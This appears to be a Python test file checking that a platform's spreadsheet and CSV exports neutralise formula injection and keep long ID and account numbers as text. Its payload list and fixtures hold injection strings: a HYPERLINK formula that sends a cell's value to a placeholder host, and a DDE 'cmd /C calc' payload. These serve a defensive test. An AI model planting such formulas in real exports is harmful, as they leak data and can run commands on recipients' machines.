"""The one spreadsheet writer: text that a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

from openpyxl import load_workbook
from test_programs_cycles import enroll, generate, make_setup

from canlian.platform.exports import Sheet, csv_bytes, safe_cell, xlsx_bytes
from canlian.programs.cycles import actions as cycles
from canlian.programs.models import Enrollment

PAYLOADS = [
    '=HYPERLINK("http://x/?"&C2,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "\rx",
]


def test_safe_cell():
    for payload in PAYLOADS:
        assert safe_cell(payload) == "'" + payload
    for harmless in ("张三", "370502199003077777", "", "a=b"):
        assert safe_cell(harmless) == harmless
    assert safe_cell(Decimal("-5.00")) == Decimal("-5.00")  # numbers stay numbers


def test_xlsx_and_csv_hold_no_formula():
    data, count = xlsx_bytes([Sheet("s", ["a", "b"], [[p, Decimal("1.50")] for p in PAYLOADS])])
    assert count == len(PAYLOADS)
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [row for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert all(c[0].startswith("'") for c in cells) and cells[0][1] == 1.5
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    text, count = csv_bytes(["a"], [[p] for p in PAYLOADS])
    rows = list(csv.reader(io.StringIO(text.decode("utf-8-sig"), newline="")))
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]


def test_the_bank_file_neutralises_an_account_holder(regions, make_user):
    setup = make_setup(make_user)
    e = enroll(setup["nursing"], applied=dt.date(2025, 5, 1))
    Enrollment.objects.filter(pk=e.pk).update(account_holder="=cmd|' /C calc'!A0")
    cycle = generate(setup, dt.date(2025, 5, 1)).cycle
    cycles.cycle_approve(actor=setup["checker"], cycle_id=cycle.pk)
    data, _name = cycles.cycle_export(actor=setup["maker"], cycle_id=cycle.pk, fmt="xlsx")
    sheet = load_workbook(io.BytesIO(data)).active
    holder = [row[5] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert holder == ["'=cmd|' /C calc'!A0"]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_the_person_export_neutralises_an_imported_address(regions, make_user):
    from registry_factories import registered

    from canlian.core.registry.exporting import persons_export
    from canlian.core.registry.selectors import PersonFilters

    registered(name="注入", residence_address='=HYPERLINK("http://x/?"&C2,"点击")')
    out = io.BytesIO()
    assert persons_export(user=make_user("county_admin", "370502"), filters=PersonFilters(), stream=out) == 1
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert any(c.value == "'" + '=HYPERLINK("http://x/?"&C2,"点击")' for c in cells)


def test_long_digit_strings_stay_text_in_csv_and_xlsx():
    import csv
    import io

    from openpyxl import load_workbook

    from canlian.platform.exports import Sheet, csv_bytes, xlsx_bytes

    row = ["370502198001011234", "37050219800101123X", "6222021234567890123", "05461234567", "12345", 88]
    data, _n = csv_bytes(["身份证号", "尾号X", "账号", "电话", "短号", "数"], [row])
    cells = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1]
    # led by a tab (Excel/WPS: text, not 3.70502E+17) and intact once stripped
    assert cells[:4] == [
        "\t370502198001011234",
        "\t37050219800101123X",
        "\t6222021234567890123",
        "\t05461234567",
    ]
    assert [c.strip() for c in cells[:4]] == row[:4]
    assert cells[4:] == ["12345", "88"]  # short numbers are left alone
    book = load_workbook(io.BytesIO(xlsx_bytes([Sheet("s", ["a"] * 6, [row])])[0]))
    values = [c.value for c in next(book.active.iter_rows(min_row=2))]
    assert values == row and all(isinstance(v, str) for v in values[:5])
